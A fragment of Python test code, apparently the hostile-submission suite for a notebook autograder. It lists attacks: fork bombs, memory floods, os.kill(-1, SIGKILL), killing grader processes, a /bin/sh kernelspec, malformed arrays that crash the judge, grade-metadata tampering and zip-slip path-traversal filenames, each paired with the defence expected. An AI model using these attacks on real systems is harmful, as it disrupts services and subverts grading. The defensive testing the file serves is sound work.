    ),
    Attack(
        "t-fork-bomb",
        TINY,
        "floods",
        "forks until refused (counted), then a fork bomb ignoring SIGINT at the end",
        lambda ctx: append(
            insert_after(ctx.solution(TINY), "test_double", ctx.fill(FORK_COUNT)), FORK_BOMB
        ),
        (),
        "pids cgroup, RLIMIT_NPROC; the kernel is killed after its timeout",
        note=r"timeout",
    ),
    Attack(
        "t-memory",
        TINY,
        "floods",
        "8 GiB in one array, a growing list of blocks, then six children holding 512 MiB each",
        _solution_with(TINY, "test_double", MEMORY),
        (),
        "RLIMIT_AS per process, memory cgroup for the tree",
    ),
    Attack(
        "t-segfault",
        TINY,
        "crashes",
        "ctypes.string_at(0) between the two parts",
        _solution_with(TINY, "test_double", "import ctypes\n\nctypes.string_at(0)"),
        ("test_triple",),
        "only the cells after the crash are lost",
        note=_KERNEL_DIED,
    ),
    Attack(
        "t-exit-in-call",
        TINY,
        "crashes",
        "triple() calls os._exit when the grader calls it",
        _solved_tiny_with("triple_impl", EXIT_IN_CALL),
        ("test_triple",),
        "the judge records the lost connection for that part only",
        note=_KERNEL_DIED,
    ),
    Attack(
        "t-ignores-sigint",
        TINY,
        "crashes",
        "a cell ignoring SIGINT past its timeout",
        _solution_with(TINY, "test_double", SIGINT_LOOP),
        ("test_triple",),
        "the kernel is killed after the timeout's grace",
        note=r"ignored the interrupt",
    ),
    Attack(
        "t-kills-parent",
        TINY,
        "crashes",
        "kills its parent and every grader process it finds in /proc; kill(-1) at the end",
        lambda ctx: append(
            insert_after(ctx.solution(TINY), "test_double", ctx.fill(KILL_PARENT)),
            "import os\nimport signal\n\nos.kill(-1, signal.SIGKILL)",
        ),
        (),
        "own PID namespace and uid: nothing outside can be signalled",
    ),
    Attack(
        "t-protocol-strides",
        TINY,
        "judge protocol",
        "answers with an array whose strides "
        "overflow numpy's bounds check (reading it segfaults the reader)",
        _solution_with(TINY, "setup", PROTOCOL_STRIDES),
        ALL,
        "the judge must refuse arrays that do not fit their buffer",
    ),
    Attack(
        "t-protocol-spam",
        TINY,
        "judge protocol",
        "garbage, oversized headers, wrong parts "
        "and connections outside graded cells, from a thread, beside a correct solution",
        _solution_with(TINY, "setup", PROTOCOL_SPAM),
        (),
        "the judge closes every connection it does not expect",
        note=r"outside any graded cell",
    ),
    # -- metadata tampering ----------------------------------------------------------------
    Attack(
        "t-meta-points",
        TINY,
        "metadata tampering",
        "test_double worth 100 points",
        _meta_edit(_set_points),
        (),
        "metadata restored from the release",
        note=_RESTORED,
    ),
    Attack(
        "t-meta-grade-ids",
        TINY,
        "metadata tampering",
        "the two test cells' grade ids swapped",
        _meta_edit(_swap_grade_ids),
        (),
        "metadata restored from the release",
        note=_RESTORED,
    ),
    Attack(
        "t-meta-duplicate",
        TINY,
        "metadata tampering",
        "test_double duplicated",
        _meta_edit(_duplicate_test),
        (),
        "the copy's metadata is removed",
        note=_EARNS_NOTHING,
    ),
    Attack(
        "t-meta-reflag",
        TINY,
        "metadata tampering",
        "test_double re-flagged as a solution cell",
        _meta_edit(_reflag_test),
        (),
        "metadata restored from the release",
        note=_RESTORED,
    ),
    Attack(
        "t-meta-new-cell",
        TINY,
        "metadata tampering",
        "a new 100-point graded cell",
        _meta_edit(_new_graded_cell),
        (),
        "a graded cell the release lacks earns nothing",
        note=_EARNS_NOTHING,
    ),
    Attack(
        "t-meta-kernelspec",
        TINY,
        "metadata tampering",
        "a kernelspec that runs /bin/sh",
        _bogus_kernelspec,
        (),
        "the grading kernel is the grader's, whatever the notebook says",
    ),
    Attack(
        "t-meta-non-utf8",
        TINY,
        "metadata tampering",
        "bytes that are not UTF-8",
        _non_utf8,
        ALL,
        "unreadable: graded as the blank release",
        note=r"UTF-8",
    ),
    Attack(
        "t-meta-huge-cell",
        TINY,
        "metadata tampering",
        "a 50 MB cell",
        _huge_cell,
        (),
        "graded like any cell",
    ),
    Attack(
        "t-meta-invalid-json",
        TINY,
        "metadata tampering",
        "not JSON",
        lambda ctx: b'{"cells": [',
        ALL,
        "unreadable: graded as the blank release",
        note=r"not valid JSON",
    ),
    # -- the victims: graded last, and again in a later batch ---------------------------------
    Attack(
        "zz-victim",
        TINY,
        CORRECT,
        "a correct submission graded after every attacker",
        _solution(TINY),
        files=VICTIM,
    ),
    Attack(
        "zz-victim-blank",
        TINY,
        "baseline",
        "an untouched submission graded after every attacker",
        _blank(TINY),
        ALL,
        "nothing to grade",
        files=VICTIM,
    ),
]

#: LMS zip entries (name -> what the file is): only the first and the last are a student's.
ZIP_ENTRIES = {
    "zipslip_1001_2001_tiny.ipynb": "solution",
    "../../hostile-zipslip-@@TOKEN@@.ipynb": "solution",
    "/tmp/hostile-zipslip-abs-@@TOKEN@@.ipynb": "solution",
    "..\\..\\hostile-zipslip-win-@@TOKEN@@.ipynb": "solution",
    "./../hostile-zipslip-dot-@@TOKEN@@.ipynb": "solution",
    "zipslip2/../../../../hostile-zipslip-dir-@@TOKEN@@.ipynb": "blank",
}
#: The students the zip gives, and their grades.
ZIP_STUDENTS = {
    "zipslip": {"test_double": 2.0, "test_triple": 1.0},
    "zipslip2": {"test_double": 0.0, "test_triple": 0.0},
}
